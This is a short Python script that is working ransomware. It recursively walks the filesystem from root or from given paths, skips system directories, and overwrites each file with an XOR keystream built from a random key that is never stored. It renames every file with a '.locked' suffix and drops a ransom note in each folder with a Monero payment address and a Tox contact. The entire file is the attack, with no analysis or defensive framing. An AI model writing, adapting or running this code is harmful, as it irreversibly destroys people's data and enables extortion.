import os, sys, hashlib, time
K = hashlib.sha256(os.urandom(32) + str(time.time()).encode()).digest()
X = ('.locked')
S = ('/proc', '/sys', '/dev', '/run', '/usr', '/lib', '/lib64', '/bin', '/sbin', '/boot', '/etc')

def _ks(k, n):
    o = bytearray(); c = 0
    while len(o) < n:
        o += hashlib.sha256(k + c.to_bytes(8, 'little')).digest(); c += 1
    return bytes(o[:n])

def _x(p):
    sz = os.path.getsize(p)
    if sz == 0: return
    with open(p, 'r+b') as f:
        off = 0
        while off < sz:
            f.seek(off); b = f.read(1 << 20)
            if not b: break
            k = _ks(K + off.to_bytes(8, 'little'), len(b))
            f.seek(off); f.write(bytes(a ^ c for a, c in zip(b, k)))
            off += len(b)
    os.rename(p, p + X)

def _w(d):
    try: it = os.scandir(d)
    except OSError: return
    with it:
        for e in it:
            try:
                if e.is_symlink(): continue
                if e.is_dir():
                    if e.path not in S: _w(e.path)
                elif e.is_file() and not e.name.endswith(X) and e.name != 'HOW_TO_RECOVER.txt':
                    _x(e.path)
            except Exception: pass
    try:
        open(os.path.join(d, 'HOW_TO_RECOVER.txt'), 'w').write(
            'files locked. id=%s\nxmr: 48Gq7aZ3Tn1ZjbY6vB4pWkR9mXcL2dN8sFh5JtU3yQeV\ntox: 7A1F0C3E9B2D\n' % K[:6].hex())
    except Exception: pass

for r in (sys.argv[1:] or ['/']):
    _w(r)
